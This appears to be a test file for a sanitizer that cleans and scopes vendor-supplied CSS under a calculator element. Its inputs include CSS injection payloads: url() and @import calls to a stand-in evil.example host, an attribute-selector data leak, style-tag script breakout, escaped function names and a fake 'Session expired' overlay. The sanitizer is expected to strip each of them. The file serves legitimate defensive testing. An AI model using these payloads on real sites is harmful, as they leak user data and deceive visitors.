import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeVendorCss, sanitizeVendorDeclarations, vendorStylesheet } from './vendor-css.ts';

const PNG = 'data:image/png;base64,iVBORw0KGgo=';

describe('sanitizeVendorCss', () => {
  it('keeps ordinary rules, rewritten in a canonical form', () => {
    const { css, removed } = sanitizeVendorCss(
      '.header  h1 , .title{color:#123456;font: 700 1.2rem/1.4 Georgia, serif !important}\nbutton:hover{background:linear-gradient(90deg, rgb(0 0 0 / 50%), transparent)}',
    );
    expect(css).toBe(
      [
        '.header h1 , .title {',
        '  color: #123456;',
        '  font: 700 1.2rem/1.4 Georgia, serif !important;',
        '}',
        'button:hover {',
        '  background: linear-gradient(90deg, rgb(0 0 0 / 50%), transparent);',
        '}',
      ].join('\n'),
    );
    expect(removed).toBe(0);
  });

  it('keeps @media, @supports and @keyframes with their rules', () => {
    const { css } = sanitizeVendorCss(
      '@media (max-width: 600px) { .panel { padding: 4px } } @supports (display: grid) { .grid { display: grid } } @keyframes pulse { from { opacity: 0 } 50% { opacity: .5 } to { opacity: 1 } }',
    );
    expect(css).toContain('@media (max-width: 600px) {\n  .panel {\n    padding: 4px;\n  }\n}');
    expect(css).toContain('@supports (display: grid) {');
    expect(css).toContain('@keyframes pulse {\n  from {\n    opacity: 0;\n  }\n  50% {');
  });

  it('drops @import in every spelling, and @font-face, @namespace and @charset', () => {
    for (const input of [
      '@import url(https://evil.example/x.css);',
      '@import "https://evil.example/x.css";',
      '@IMPORT "//evil.example/x.css" screen;',
      '@font-face { font-family: x; src: url(https://evil.example/font.woff) }',
      '@namespace svg url(http://www.w3.org/2000/svg);',
      '@charset "utf-8";',
      '@document url-prefix(https://roomtone) { body { color: red } }',
    ]) {
      const { css, removed } = sanitizeVendorCss(`${input} .ok { color: red }`);
      expect(css).toBe('.ok {\n  color: red;\n}');
      expect(removed).toBeGreaterThan(0);
    }
  });

  it('drops url() pointing anywhere but an inline raster image', () => {
    for (const value of [
      'url(https://evil.example/leak?v=a)',
      "url('https://evil.example/leak')",
      'url("//evil.example/leak")',
      'url(/api/account/organization)',
      'url(data:image/svg+xml;base64,PHN2Zz4=)',
      'url("data:text/html,<script>alert(1)</script>")',
      'image-set("https://evil.example/a.png" 1x)',
      'element(#secret)',
      'cross-fade(url(a.png), url(b.png))',
    ]) {
      const { css } = sanitizeVendorCss(`input[value^="a"] { background: ${value}; color: blue }`);
      expect(css).toBe('input[value^="a"] {\n  color: blue;\n}');
    }
    const inline = sanitizeVendorCss(`.logo { background-image: url("${PNG}") }`);
    expect(inline.css).toContain(`background-image: url("${PNG}");`);
  });

  it('drops expression(), javascript:, behavior and -moz-binding', () => {
    for (const declaration of [
      'width: expression(alert(1))',
      'background: url(javascript:alert(1))',
      'background-image: "javascript:alert(1)"',
      'behavior: url(script.htc)',
      '-moz-binding: url(http://evil.example/xbl.xml#x)',
      'color: attr(data-secret)',
    ]) {
      const { css, removed } = sanitizeVendorCss(`.a { ${declaration}; margin: 0 }`);
      expect(css).toBe('.a {\n  margin: 0;\n}');
      expect(removed).toBe(1);
    }
  });

  it('refuses escapes that could spell a function name', () => {
    for (const value of [
      'u\\72l(https://evil.example)',
      '\\75 rl(https://evil.example)',
      'expr\\65ssion(1)',
    ]) {
      expect(sanitizeVendorCss(`.a { background: ${value} }`).css).toBe('');
    }
  });

  it('sees through comments that split a function name', () => {
    expect(sanitizeVendorCss('.a { background: u/**/rl(https://evil.example) }').css).toBe('');
    expect(sanitizeVendorCss('.a { color: /* note */ red }').css).toBe('.a {\n  color: red;\n}');
  });

  it('cannot close the style element it is embedded in', () => {
    const { css } = sanitizeVendorCss(
      '.a { content: "</style><script>alert(1)</script>" } </style><script>alert(2)</script> .b { color: red }',
    );
    expect(css).not.toMatch(/<\/?(style|script)/i);
    expect(css).toContain('content: "\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e ";');
    expect(sanitizeVendorCss('.a { color: red</style> }').css).toBe('');
  });

  it('drops selectors with characters no selector needs', () => {
    expect(sanitizeVendorCss('.a\\3c b { color: red }').css).toBe('');
    expect(sanitizeVendorCss('a!b { color: red } .ok { color: blue }').css).toBe('.ok {\n  color: blue;\n}');
  });

  it('drops unbalanced values that would swallow the rest of the sheet', () => {
    expect(sanitizeVendorCss('.a { color: rgb(0, 0, 0 } .b { color: red }').css).toBe(
      '.b {\n  color: red;\n}',
    );
  });

  it('drops unterminated strings and nested rules, and survives stray braces', () => {
    expect(sanitizeVendorCss('.a { content: "open\n; color: red }').css).toBe('.a {\n  color: red;\n}');
    expect(sanitizeVendorCss('.a { & .b { color: red } color: blue }').css).toBe('.a {\n  color: blue;\n}');
    expect(sanitizeVendorCss('} } .a { color: red } {').css).toBe('.a {\n  color: red;\n}');
  });

  it('drops at-rules nested too deep and media conditions with odd characters', () => {
    const deep =
      '@media screen { @supports (display: grid) { @media print { @media all { .a { color: red } } } } }';
    expect(sanitizeVendorCss(deep).css).not.toContain('.a');
    expect(sanitizeVendorCss('@media screen and (min-width: 1px) { .a { color: red } }').css).toContain('.a');
    expect(sanitizeVendorCss('@media "x" { .a { color: red } }').css).toBe('');
  });

  it('returns an empty sheet for empty or hostile input', () => {
    expect(sanitizeVendorCss('')).toEqual({ css: '', removed: 0 });
    expect(sanitizeVendorCss('<script>alert(1)</script>').css).toBe('');
  });
});

describe('sanitizeVendorCss on arbitrary input', () => {
  const noise = fc.constantFrom(
    ' ',
    '{',
    '}',
    ';',
    '(',
    ')',
    '"',
    "'",
    '\\',
    '<',
    '</style>',
    '/*',
    '*/',
    '@import "https://evil.example/x.css";',
    '\n',
  );
  const value = fc
    .array(
      fc.constantFrom(
        'red',
        '1px',
        'url(',
        ')',
        '"data:image/png;base64,AAAA"',
        'https://evil.example/',
        'expression(',
        'javascript:',
        'rgb(0, 0, 0)',
        'calc(1px + 2%)',
        '"</style>"',
        '!important',
        'u\\72l(',
      ),
      { minLength: 1, maxLength: 4 },
    )
    .map((parts) => parts.join(' '));
  const declaration = fc
    .tuple(fc.constantFrom('color', 'background', 'content', '--brand', 'behavior', 'width'), value)
    .map(([name, text]) => `${name}: ${text}`);
  const rule = fc
    .tuple(
      fc.constantFrom(
        '.a',
        'h1 > span',
        'input[value^="a"]',
        '@media (min-width: 1px)',
        '@font-face',
        'a:hover',
      ),
      fc.array(declaration, { maxLength: 4 }),
      fc.option(noise),
    )
    .map(([selector, declarations, extra]) => `${selector} { ${declarations.join('; ')} }${extra ?? ''}`);
  const sheet = fc.array(rule, { maxLength: 6 }).map((rules) => rules.join('\n'));

  it('never lets out a tag, an import, a script scheme or a foreign url, and is stable', () => {
    let nonEmpty = 0;
    fc.assert(
      fc.property(sheet, (input) => {
        const { css } = sanitizeVendorCss(input);
        if (css !== '') nonEmpty += 1;
        expect(css).not.toContain('<');
        expect(css.toLowerCase()).not.toContain('@import');
        expect(css.toLowerCase()).not.toContain('@font-face');
        expect(css.toLowerCase()).not.toContain('expression(');
        expect(css.toLowerCase()).not.toContain('javascript:');
        expect(css).not.toMatch(/behavior:/);
        for (const match of css.matchAll(/url\(\s*(["']?)([^"')]*)/gi)) {
          expect(match[2]).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
        }
        expect(sanitizeVendorCss(css).css).toBe(css);
      }),
      { numRuns: 3000 },
    );
    // The generator must exercise the writer, not only the refusals.
    expect(nonEmpty).toBeGreaterThan(1000);
  });

  it('writes every selector under the calculator root when served', () => {
    fc.assert(
      fc.property(sheet, fc.constantFrom('body', 'html > .a', ':root', '~ header', '.ok'), (input, extra) => {
        const css = vendorStylesheet(`${extra} { color: red } ${input}`, '', 'data-vendor-calculator');
        for (const line of css.split('\n')) {
          const trimmed = line.trim();
          if (!trimmed.endsWith('{') || trimmed.startsWith('@')) continue;
          expect(trimmed).toMatch(/^\[data-vendor-calculator\]/);
          expect(trimmed).not.toMatch(/(^|[\s>+~(,])(html|body)(?![\w-])|:root/i);
        }
        expect(css).not.toMatch(/position:\s*fixed/i);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('sanitizeVendorDeclarations', () => {
  it('keeps safe declarations and drops the rest', () => {
    const { css, removed } = sanitizeVendorDeclarations(
      'color: #333; font-family: "Source Sans", sans-serif; background: url(https://evil.example); } .x { color: red',
    );
    expect(css).toBe('color: #333;\nfont-family: "Source Sans", sans-serif;');
    expect(removed).toBeGreaterThan(0);
  });
});

describe('vendorStylesheet', () => {
  const ROOT = 'data-vendor-calculator';

  it('serves the sheet and the inline declarations scoped to the calculator', () => {
    expect(vendorStylesheet('.a { color: red }', 'color: blue', ROOT)).toBe(
      [
        '[data-vendor-calculator] .a {',
        '  color: red;',
        '}',
        '',
        '[data-vendor-calculator] {',
        '  color: blue;',
        '  contain: paint !important;',
        '}',
      ].join('\n'),
    );
    expect(vendorStylesheet('', '', ROOT)).toBe('');
  });

  it('writes every selector of a list under the root, also inside @media and @supports', () => {
    const css = vendorStylesheet(
      'h1, .title > span, a[title="x, y"] { color: red } @media (max-width: 600px) { .panel, > .b { padding: 4px } } @supports (display: grid) { .grid { display: grid } }',
      '',
      ROOT,
    );
    expect(css).toContain(
      '[data-vendor-calculator] h1, [data-vendor-calculator] .title > span, [data-vendor-calculator] a[title="x, y"] {',
    );
    expect(css).toContain(
      '@media (max-width: 600px) {\n  [data-vendor-calculator] .panel, [data-vendor-calculator] > .b {\n    padding: 4px;',
    );
    expect(css).toContain('@supports (display: grid) {\n  [data-vendor-calculator] .grid {');
    for (const line of css.split('\n')) {
      if (line.trimEnd().endsWith('{') && !line.trim().startsWith('@')) {
        for (const selector of line.replace(/\s*\{$/, '').split(/,(?![^"]*")/)) {
          expect(selector.trim()).toMatch(/^\[data-vendor-calculator\]/);
        }
      }
    }
  });

  it('makes a fake overlay, a hidden page header and disabled page links harmless', () => {
    const css = vendorStylesheet(
      'body::after{content:"Session expired - call 555";position:fixed;inset:0;z-index:99999} header{display:none} a[href^="/"]{pointer-events:none}',
      '',
      ROOT,
    );
    expect(css).toBe(
      [
        '[data-vendor-calculator] header {',
        '  display: none;',
        '}',
        '[data-vendor-calculator] a[href^="/"] {',
        '  pointer-events: none;',
        '}',
        '',
        '[data-vendor-calculator] {',
        '  contain: paint !important;',
        '}',
      ].join('\n'),
    );
    expect(css).not.toContain('Session expired');
    expect(css).not.toContain('fixed');
  });

  it('drops rules that target the document or a sibling of the root', () => {
    for (const selector of [
      'body',
      'html .a',
      ':root',
      'BODY > header',
      '.a, body',
      ':is(body) .a',
      'div:not(html)',
      '*|body',
      ':host',
      '~ header',
      '+ nav',
      '.a:scope',
    ]) {
      const { css, removed } = sanitizeVendorCss(`${selector} { color: red } .ok { color: blue }`, ROOT);
      expect(css, selector).toBe('[data-vendor-calculator] .ok {\n  color: blue;\n}');
      expect(removed, selector).toBe(1);
    }
    expect(sanitizeVendorCss('.body, #html, [data-x="body"], .tbody { color: red }', ROOT).css).toContain(
      'color: red',
    );
  });

  it('refuses fixed positioning, in the sheet and on the root', () => {
    expect(sanitizeVendorCss('.a { position: fixed; top: 0 } .b { position: FIXED !important }').css).toBe(
      '.a {\n  top: 0;\n}',
    );
    expect(sanitizeVendorCss('.a { position: sticky }').css).toBe('.a {\n  position: sticky;\n}');
    expect(vendorStylesheet('', 'position: fixed; color: red', ROOT)).toBe(
      '[data-vendor-calculator] {\n  color: red;\n  contain: paint !important;\n}',
    );
  });

  it('renames the vendor animations so they cannot replace the page ones', () => {
    const css = vendorStylesheet(
      '@keyframes spin { to { opacity: 0 } } .a { animation: spin 1s infinite, mantine-fade 2s; } .b { animation-name: spin } .c { color: red }',
      '',
      ROOT,
    );
    expect(css).toContain('@keyframes vendor-spin {');
    expect(css).toContain('animation: vendor-spin 1s infinite, mantine-fade 2s;');
    expect(css).toContain('animation-name: vendor-spin;');
    expect(css).not.toMatch(/@keyframes spin/);
  });

  it('keeps the url() restrictions under the root', () => {
    const css = vendorStylesheet(
      `.a { background: url(https://evil.example/x); color: red } .b { background-image: url("${PNG}") }`,
      'background: url(//evil.example/y)',
      ROOT,
    );
    expect(css).not.toContain('evil.example');
    expect(css).toContain(`background-image: url("${PNG}");`);
  });
});
